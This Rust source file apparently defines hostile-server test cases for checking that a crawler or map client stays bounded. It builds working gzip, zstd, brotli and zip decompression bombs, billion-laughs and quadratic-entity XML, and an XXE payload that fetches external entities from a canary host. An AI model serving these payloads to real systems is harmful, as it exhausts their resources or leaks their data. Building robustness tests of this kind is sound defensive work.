//! Decompression bombs: compressed zeros, archives, entities.

use super::{CANARY, CaseForm, case, common, harmless, repeat, send, unbounded};
use crate::file::{SparseFile, ZipMember, ZipMethod, crc_with_zeros, write_zip, zip_of_packed};
use crate::reply::{ReplyAct, ReplyBody, SiteReply};
use crate::sitemap::gzip;
use bytes::Bytes;
use flate2::{Compression, write::DeflateEncoder};
use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::{Arc, LazyLock};

const MIB: u64 = 1 << 20;
const BOMB: u64 = 1200 * MIB;
const BLOCK: u64 = MIB / 4;
/// 1 GiB of zeros.
const BROTLI: &[u8] = include_bytes!("../../assets/zeros-1gib.br");

pub(super) static CASES: &[CaseForm] = &[
    common(case("gzip-bomb", "/", "too-large", |_, _| encoded("gzip", gzip_acts(BOMB)))),
    case("deflate-bomb", "/", "too-large", |_, _| encoded("deflate", deflate_acts(BOMB))),
    case("gzip-nested", "/", "too-large", |_, _| encoded("gzip, gzip", vec![send(gzip(&gzip_bytes(BOMB)))])),
    common(case("brotli-bomb", "/", "too-large", |_, _| encoded("br", vec![send(BROTLI)]))),
    case("zstd-bomb", "/", "too-large", |_, _| encoded("zstd", zstd_acts(BOMB))),
    case("caps-gzip-bomb", "/wms?SERVICE=WMS&REQUEST=GetCapabilities", "too-large", |_, _| {
        encoded("gzip", gzip_acts(BOMB))
    }),
    common(case("gzip-corrupt", "/", "decode-error", |_, _| {
        encoded("gzip", vec![send("this is no gzip at all")])
    })),
    case("gzip-cut", "/", "decode-error", |_, _| {
        let whole = gzip("<p>half of it</p>".repeat(2000).as_bytes());
        encoded("gzip", vec![send(whole[..whole.len() / 2].to_vec())])
    }),
    common(case("kmz-bomb", "/bomb.kmz", "bounded", |_, _| archive(&KMZ_BOMB))),
    case("kmz-bomb-liar", "/bomb.kmz", "bounded", |_, _| archive(&KMZ_LIAR)),
    case("zip-many-entries", "/many.zip", "bounded", |_, _| archive(&MANY_ENTRIES)),
    case("zip-endless", "/endless.zip", "bounded", |_, _| {
        unbounded("application/zip", "", vec![send("PK\x03\x04"), repeat("\0\0\0\0\0\0\0\0", u64::MAX)])
    }),
    common(case("billion-laughs", "/laughs.xml", "bounded", |_, _| SiteReply::xml(laughs()))),
    case("billion-laughs-wms", "/wms?SERVICE=WMS&REQUEST=GetCapabilities", "bounded", |_, _| {
        SiteReply::xml(laughs().replace("lolz", "WMT_MS_Capabilities"))
    }),
    case("quadratic-entity", "/quadratic.xml", "bounded", |_, _| {
        let mut out =
            format!("<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY a \"{}\">]>\n<r>", "a".repeat(100_000));
        out.push_str(&"&a;".repeat(50_000));
        out.push_str("</r>\n");
        SiteReply::xml(out)
    }),
    common(case("external-entity", "/wms?SERVICE=WMS&REQUEST=GetCapabilities", "no-canary", |_, _| {
        SiteReply::xml(format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE WMT_MS_Capabilities SYSTEM \"http://{CANARY}/wms.dtd\" [\n<!ENTITY % p SYSTEM \"http://{CANARY}/p.ent\">\n%p;\n<!ENTITY x SYSTEM \"http://{CANARY}/x.txt\">\n]>\n<WMT_MS_Capabilities version=\"1.1.1\"><Service><Name>OGC:WMS</Name><Title>&x;</Title></Service><Capability><Layer><Name>a</Name><Title>&x;</Title></Layer></Capability></WMT_MS_Capabilities>\n"
        ))
    })),
    CaseForm {
        in_robots: true,
        ..case("sitemap-bomb", "/", "bounded", |request, _| match request.path() {
            "/robots.txt" => SiteReply::new(
                200,
                "text/plain",
                "User-agent: *\nDisallow:\nSitemap: http://sitemap-bomb.hostile.test/sitemap.xml.gz\n",
            ),
            "/sitemap.xml.gz" => SiteReply::new(200, "application/gzip", gzip_bytes(BOMB)),
            _ => harmless(),
        })
    },
    common(case("sitemap-loop", "/sitemap.xml", "bounded", |request, _| {
        if request.path() != "/sitemap.xml" {
            return harmless();
        }
        let own: u64 = request.query().get("part").and_then(|part| part.parse().ok()).unwrap_or(0);
        let mut out = String::from(
            "<?xml version=\"1.0\"?>\n<sitemapindex xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">\n",
        );
        for part in 1..=5 {
            let _ = writeln!(
                out,
                "<sitemap><loc>http://sitemap-loop.hostile.test/sitemap.xml?part={}</loc></sitemap>",
                own.wrapping_mul(5).wrapping_add(part)
            );
        }
        out.push_str("</sitemapindex>\n");
        SiteReply::xml(out)
    })),
    CaseForm {
        in_robots: true,
        ..case("robots-endless", "/", "bounded", |request, _| {
            if request.path() != "/robots.txt" {
                return harmless();
            }
            unbounded(
                "text/plain",
                "",
                vec![send("User-agent: *\nDisallow: /geheim/\n"), repeat("Disallow: /x/\n", u64::MAX)],
            )
        })
    },
];

fn encoded(encoding: &str, acts: Vec<ReplyAct>) -> SiteReply {
    unbounded("text/html", &format!("Content-Encoding: {encoding}\r\n"), acts)
}

fn archive(file: &Arc<SparseFile>) -> SiteReply {
    let mut reply = SiteReply::new(200, "application/zip", "");
    reply.body = ReplyBody::File { file: Arc::clone(file), ranges: true };
    reply
}

/// A deflate block of zeros that ends on a byte boundary and has no back references, so it can be
/// repeated.
static ZERO_BLOCK: LazyLock<Bytes> = LazyLock::new(|| Bytes::from(flushed(&vec![0; BLOCK as usize])));
static KMZ_BOMB: LazyLock<Arc<SparseFile>> =
    LazyLock::new(|| Arc::new(zip_of_packed("doc.kml", &packed(BOMB), 0, BOMB)));
static KMZ_LIAR: LazyLock<Arc<SparseFile>> =
    LazyLock::new(|| Arc::new(zip_of_packed("doc.kml", &packed(BOMB), 0, 4000)));
static MANY_ENTRIES: LazyLock<Arc<SparseFile>> = LazyLock::new(|| {
    let entries: Vec<ZipMember> =
        (0..60_000).map(|n| ZipMember::new(format!("d/{n}.txt"), Vec::new(), ZipMethod::Stored)).collect();
    Arc::new(write_zip(&entries, ""))
});

fn flushed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    if encoder.write_all(bytes).is_err() || encoder.flush().is_err() {
        return Vec::new();
    }
    encoder.get_ref().clone()
}

/// The final, empty deflate block.
const LAST_BLOCK: &[u8] = b"\x03\x00";
const GZIP_HEAD: &[u8] = b"\x1f\x8b\x08\0\0\0\0\0\0\x03";

fn gzip_tail(size: u64) -> Vec<u8> {
    [&crc_with_zeros(b"", size).to_le_bytes()[..], &(size as u32).to_le_bytes()].concat()
}

fn gzip_acts(size: u64) -> Vec<ReplyAct> {
    vec![
        send(GZIP_HEAD),
        ReplyAct::Repeat(ZERO_BLOCK.clone(), size / BLOCK),
        send(LAST_BLOCK),
        send(gzip_tail(size)),
    ]
}

fn gzip_bytes(size: u64) -> Vec<u8> {
    [GZIP_HEAD, &ZERO_BLOCK.repeat((size / BLOCK) as usize), LAST_BLOCK, &gzip_tail(size)].concat()
}

/// In HTTP, `deflate` means zlib; the checksum of zeros is easy to compute.
fn deflate_acts(size: u64) -> Vec<ReplyAct> {
    // Adler-32 of zeros: the low word stays 1, the high word counts the bytes.
    let adler = (((size % 65_521) << 16) | 1) as u32;
    vec![
        send(&b"\x78\x9c"[..]),
        ReplyAct::Repeat(ZERO_BLOCK.clone(), size / BLOCK),
        send(LAST_BLOCK),
        send(adler.to_be_bytes().to_vec()),
    ]
}

/// Returns a Zstandard frame of run-length blocks, 128 KiB each.
fn zstd_acts(size: u64) -> Vec<ReplyAct> {
    const RUN: u64 = 128 * 1024;
    let block = |last: u32| {
        let header = ((RUN as u32) << 3 | 1 << 1 | last).to_le_bytes();
        vec![header[0], header[1], header[2], 0]
    };
    let blocks = size / RUN - 1;
    vec![
        send(&b"\x28\xB5\x2F\xFD\x00\x58"[..]),
        ReplyAct::Repeat(Bytes::from(block(0).repeat(64)), blocks / 64),
        send(block(1)),
    ]
}

/// Returns deflated KML that starts valid and continues with zeros.
fn packed(size: u64) -> Vec<u8> {
    let start = flushed(b"<?xml version=\"1.0\"?>\n<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Document><name>bomb</name>\n");
    [&start[..], &ZERO_BLOCK.repeat((size / BLOCK) as usize), LAST_BLOCK].concat()
}

fn laughs() -> String {
    let mut out = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    let mut before = "lol".to_owned();
    for level in 1..10 {
        let name = format!("lol{level}");
        let _ = writeln!(out, "<!ENTITY {name} \"{}\">", format!("&{before};").repeat(10));
        before = name;
    }
    out.push_str("]>\n<lolz>&lol9;</lolz>\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read as _;

    fn join(acts: &[ReplyAct]) -> Vec<u8> {
        let mut out = Vec::new();
        for act in acts {
            match act {
                ReplyAct::Send(bytes) => out.extend_from_slice(bytes),
                ReplyAct::Repeat(bytes, times) => out.extend(bytes.repeat(*times as usize)),
                ReplyAct::Made(..) | ReplyAct::Drip(..) | ReplyAct::Pause(_) => {}
            }
        }
        out
    }

    #[test]
    fn the_bombs_are_valid_streams_of_their_size() {
        let size = 8 * MIB;
        let mut inflated = Vec::new();
        flate2::read::GzDecoder::new(&join(&gzip_acts(size))[..]).read_to_end(&mut inflated).unwrap();
        assert_eq!(inflated.len() as u64, size);
        inflated.clear();
        flate2::read::ZlibDecoder::new(&join(&deflate_acts(size))[..]).read_to_end(&mut inflated).unwrap();
        assert_eq!(inflated.len() as u64, size);
        inflated.clear();
        flate2::read::DeflateDecoder::new(&packed(size)[..]).read_to_end(&mut inflated).unwrap();
        assert!(inflated.starts_with(b"<?xml") && inflated.len() as u64 > size);
        assert!(gzip_bytes(BOMB).len() < 2_000_000);
    }
}
